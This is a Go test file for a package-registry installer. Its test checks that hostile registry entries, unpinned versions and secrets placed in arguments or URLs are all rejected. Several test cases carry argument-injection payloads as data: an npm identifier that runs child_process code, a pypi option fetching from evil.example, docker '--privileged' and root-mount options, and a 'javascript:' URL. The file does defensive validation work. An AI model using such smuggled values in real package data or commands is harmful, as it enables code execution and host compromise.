package registry

import (
	"strings"
	"testing"
)

// lookAll finds every runtime.
func lookAll(name string) (string, error) { return "/usr/bin/" + name, nil }

// noAsk answers every question with a secret reference or a plain value,
// as the CLI would.
func noAsk(q Question) (string, bool, error) {
	if q.Input.IsSecret {
		return "${secret:S_" + strings.ToUpper(q.Key) + "}", true, nil
	}
	return "v", true, nil
}

// TestHostileEntries: registry data that would turn into an option of
// the runtime, an unpinned version, or a secret on a command line or in a
// URL is refused with an error that names the problem, and no install is
// produced (so nothing is written).
func TestHostileEntries(t *testing.T) {
	stdio := Transport{Type: TransportStdio}
	pkg := func(typ, id, version string) Package {
		return Package{RegistryType: typ, Identifier: id, Version: version, Transport: stdio}
	}
	for _, tc := range []struct {
		name string
		srv  Server
		want string
	}{
		{"npm option", Server{Packages: []Package{pkg(TypeNPM, "-e=require('child_process').exec('id')", "1.0.0")}}, "invalid npm package identifier"},
		{"npm long option", Server{Packages: []Package{pkg(TypeNPM, "--call=id", "1.0.0")}}, "invalid npm package identifier"},
		{"pypi option", Server{Packages: []Package{pkg(TypePyPI, "--from=git+https://evil.example/x", "1.0.0")}}, "invalid pypi package identifier"},
		{"nuget option", Server{Packages: []Package{pkg(TypeNuGet, "-s", "1.0.0")}}, "invalid nuget package identifier"},
		{"oci option", Server{Packages: []Package{pkg(TypeOCI, "--privileged", "1.0.0")}}, "invalid oci package identifier"},
		{"oci volume", Server{Packages: []Package{pkg(TypeOCI, "-v=/:/host", "1.0.0")}}, "invalid oci package identifier"},
		{"caret range", Server{Packages: []Package{pkg(TypeNPM, "pkg", "^1")}}, `version "^1", which is not one exact version`},
		{"tilde range", Server{Packages: []Package{pkg(TypeNPM, "pkg", "~1.2")}}, "not one exact version"},
		{"latest", Server{Packages: []Package{pkg(TypeNPM, "pkg", "latest")}}, `version "latest", which is not one exact version`},
		{"star", Server{Packages: []Package{pkg(TypePyPI, "pkg", "*")}}, `version "*", which is not one exact version`},
		{"x range", Server{Packages: []Package{pkg(TypeNPM, "pkg", "1.x")}}, "not one exact version"},
		{"no version", Server{Packages: []Package{pkg(TypeNPM, "pkg", "")}}, "names no version"},
		{"oci latest", Server{Packages: []Package{pkg(TypeOCI, "img:latest", "")}}, "names no tag or digest"},
		{"secret argument", Server{Packages: []Package{{RegistryType: TypeNPM, Identifier: "pkg", Version: "1.0.0", Transport: stdio,
			PackageArguments: []Argument{{Type: ArgNamed, Name: "--token", Input: Input{IsSecret: true, IsRequired: true}}}}}},
			"is a secret, and Switchboard passes secrets only in environment variables or headers"},
		{"secret in an argument's variable", Server{Packages: []Package{{RegistryType: TypeNPM, Identifier: "pkg", Version: "1.0.0", Transport: stdio,
			RuntimeArguments: []Argument{{Type: ArgPositional, ValueHint: "conn", Input: Input{Value: "postgres://u:{pw}@db",
				Variables: map[string]Input{"pw": {IsSecret: true, IsRequired: true}}}}}}}},
			"is a secret"},
		{"secret in a URL", Server{Remotes: []Transport{{Type: TransportHTTP, URL: "https://api.example/{key}/mcp",
			Variables: map[string]Input{"key": {IsSecret: true, IsRequired: true}}}}},
			"puts a secret in its URL"},
		{"remote javascript", Server{Remotes: []Transport{{Type: TransportHTTP, URL: "javascript:alert(1)"}}}, "must be http or https"},
		{"unknown transport", Server{Packages: []Package{{RegistryType: TypeNPM, Identifier: "pkg", Version: "1.0.0", Transport: Transport{Type: "websocket"}}}}, `unknown transport "websocket"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.srv.Name, tc.srv.Version = "io.github.x/y", "1.0.0"
			c, err := Choose(&tc.srv, lookAll, "")
			var in *Install
			if err == nil {
				in, err = c.Resolve(noAsk)
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v (install %+v), want an error with %q", err, in, tc.want)
			}
			if in != nil {
				t.Errorf("got an install %+v with the error", in)
			}
		})
	}
}
